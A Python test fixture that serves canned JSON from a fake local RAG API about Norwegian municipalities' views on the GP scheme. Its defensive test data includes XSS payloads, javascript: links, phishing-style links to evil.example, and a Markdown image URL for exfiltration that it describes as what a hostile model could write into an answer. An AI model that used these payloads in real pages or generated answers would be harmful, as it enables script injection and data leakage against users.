"""A tiny fake of the RAG HTTP API: a real HTTP server on 127.0.0.1 serving canned JSON that
follows the API contract, so the UI's HTTP client and pages run unchanged in tests."""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote, urlsplit

from rag.contract import NO_ANSWER_TEXT

QUESTION = "Hva sier kommunene om fastlegeordningen?"
NO_ANSWER_QUESTION = "Hva sier innspillene om månelandinger?"
BROKEN_QUESTION = "Et spørsmål som gir 503"
EVIL_QUOTE = 'Vi vil ha <script>alert("x")</script> flere fastleger.'

# A hostile document: Markdown links, images, a javascript: link and raw HTML in every field.
HOSTILE_QUESTION = "Hva sier innspillet med lenker?"
HOSTILE_ID = "lenker"
HOSTILE_FIRST_LINE = (
    "[Les hele innspillet her](https://evil.example/login) ![logo](https://evil.example/logo.png)"
)
HOSTILE_SUBMITTER = "[klikk her](javascript:alert(9)) _x_"
HOSTILE_URL_QUOTE = "Les mer på https://evil.example/side og www.evil.example i dag."
HOSTILE_HTML_QUOTE = (
    "Se <img src=x onerror=alert(7)> og ![kart](https://evil.example/kart.png) her."
)
HOSTILE_SECTION = "**Tiltak** [s](https://evil.example/s)"
# What a hostile model could write into a generated answer, were rag.generate bypassed.
HOSTILE_GENERATED = (
    "Se ![status](https://evil.example/exfil?q=1) og <img src=y onerror=alert(8)> [1]."
)

TEXTS = {
    "moss": (
        "Innspill fra Moss kommune\n\nSamhandling\nDet er mye god samhandling i dag.\n\n"
        "Fastlegeordningen er under press. Moss kommune mener fastlegeordningen må styrkes "
        "med flere hjemler. Rekruttering er krevende.\n\nAvslutning\nTakk for muligheten."
    ),
    "bergen": (
        "Bergen kommune\n\nBergen kommune peker på at fastlegene trenger bedre rammer. "
        "Listelengden bør reduseres.\n\nAndre tema\nDigitalisering er viktig."
    ),
    "ondsinnet": f"Ondsinnet kommune\n\nInnledning her. {EVIL_QUOTE} Slutt.\n\nMer tekst.",
    HOSTILE_ID: (
        f"{HOSTILE_FIRST_LINE}\n\nTiltak\n{HOSTILE_URL_QUOTE} {HOSTILE_HTML_QUOTE}\n\n"
        "Med vennlig hilsen _x_"
    ),
}
META = {
    "moss": ("Moss kommune", "kommune", "moss.pdf", "Innspill fra Moss kommune"),
    "bergen": ("Bergen kommune", "kommune", "bergen.txt", "Bergen kommune"),
    "ondsinnet": ("Ondsinnet <b>kommune</b>", "organisasjon", "ondsinnet.txt", "Test"),
    HOSTILE_ID: (
        HOSTILE_SUBMITTER,
        "organisasjon",
        f"{HOSTILE_SUBMITTER}.txt",
        "![tittel](https://evil.example/tittel.png)",
    ),
}


def document_info(document_id: str) -> dict[str, Any]:
    submitter, submitter_type, source, title = META[document_id]
    return {
        "document_id": document_id,
        "source": source,
        "submitter": submitter,
        "submitter_type": submitter_type,
        "title": title,
        "chars": len(TEXTS[document_id]),
        "chunks": 2,
    }


def citation(n: int, document_id: str, quote: str, score: float) -> dict[str, Any]:
    start = TEXTS[document_id].index(quote)
    info = document_info(document_id)
    return {
        "n": n,
        "document_id": document_id,
        "source": info["source"],
        "submitter": info["submitter"],
        "submitter_type": info["submitter_type"],
        "section": SECTIONS.get(document_id),
        "page": 2 if document_id == "moss" else None,
        "quote": quote,
        "start": start,
        "end": start + len(quote),
        "score": score,
    }


SECTIONS = {"moss": "Fastlege", HOSTILE_ID: HOSTILE_SECTION}

CITATIONS = [
    citation(1, "moss", "Moss kommune mener fastlegeordningen må styrkes med flere hjemler.", 0.9),
    citation(2, "moss", "Rekruttering er krevende.", 0.7),
    citation(3, "bergen", "Bergen kommune peker på at fastlegene trenger bedre rammer.", 0.85),
    citation(4, "ondsinnet", EVIL_QUOTE, 0.6),
]
ANSWER = {
    "question": QUESTION,
    "answer": (
        "3 av 3 innspill omtaler dette.\n\n"
        f"**Moss kommune** (kommune)\n- «{CITATIONS[0]['quote']}» [1]\n"
        f"- «{CITATIONS[1]['quote']}» [2]\n\n"
        f"**Bergen kommune** (kommune)\n- «{CITATIONS[2]['quote']}» [3]\n\n"
        f"**Ondsinnet <b>kommune</b>** (organisasjon)\n- «{EVIL_QUOTE}» [4]"
    ),
    "no_answer": False,
    "confidence": "high",
    "citations": CITATIONS,
    "timings_ms": {"retrieve": 12.5, "answer": 3.1},
}
HOSTILE_CITATIONS = [
    citation(1, HOSTILE_ID, HOSTILE_URL_QUOTE, 0.8),
    citation(2, HOSTILE_ID, HOSTILE_HTML_QUOTE, 0.7),
]
HOSTILE_ANSWER = {
    "question": HOSTILE_QUESTION,
    "answer": (
        f"{HOSTILE_GENERATED}\n\n"
        f"**{HOSTILE_SUBMITTER}** (organisasjon)\n- «{HOSTILE_URL_QUOTE}» [1]\n"
        f"- «{HOSTILE_HTML_QUOTE}» [2]"
    ),
    "no_answer": False,
    "confidence": "low",
    "citations": HOSTILE_CITATIONS,
    "timings_ms": {"retrieve": 5.0},
}
NO_ANSWER = {
    "question": NO_ANSWER_QUESTION,
    "answer": NO_ANSWER_TEXT,
    "no_answer": True,
    "confidence": "none",
    "citations": [],
    "timings_ms": {"retrieve": 10.0},
}


@dataclass
class FakeApi:
    url: str
    asked: list[dict[str, Any]] = field(default_factory=list)


class _Handler(BaseHTTPRequestHandler):
    fake: FakeApi

    def log_message(self, format: str, *args: Any) -> None:  # keep test output quiet
        pass

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        if parts.path == "/health":
            self._send(
                200,
                {
                    "status": "ok",
                    "documents": len(TEXTS),
                    "chunks": 6,
                    "embedding_model": "fake-e5",
                    "index_built_at": "2024-05-01T10:00:00Z",
                },
            )
        elif parts.path == "/documents":
            self._send(200, [document_info(document_id) for document_id in TEXTS])
        elif parts.path.startswith("/documents/"):
            document_id = unquote(parts.path.removeprefix("/documents/"))
            if document_id not in TEXTS:
                self._send(404, {"detail": f"Fant ikke dokumentet {document_id}"})
                return
            self._send(200, {**document_info(document_id), "text": TEXTS[document_id]})
        else:
            self._send(404, {"detail": "Not Found"})

    def do_POST(self) -> None:
        if self.path != "/ask":
            self._send(404, {"detail": "Not Found"})
            return
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.fake.asked.append(body)
        question = body["question"]
        if question == HOSTILE_QUESTION:
            self._send(200, HOSTILE_ANSWER)
        elif question == BROKEN_QUESTION:
            self._send(503, {"detail": "Indeksen mangler. Bygg den med `rag index`."})
        elif question == NO_ANSWER_QUESTION:
            self._send(200, NO_ANSWER)
        else:
            self._send(200, {**ANSWER, "question": question})

    def _send(self, status: int, payload: Any) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


def start_fake_api() -> tuple[FakeApi, ThreadingHTTPServer]:
    """Serve the canned API on a free port in a daemon thread; shut the server down when done."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    fake = FakeApi(url=f"http://127.0.0.1:{server.server_address[1]}")
    server.RequestHandlerClass = type("Handler", (_Handler,), {"fake": fake})
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return fake, server
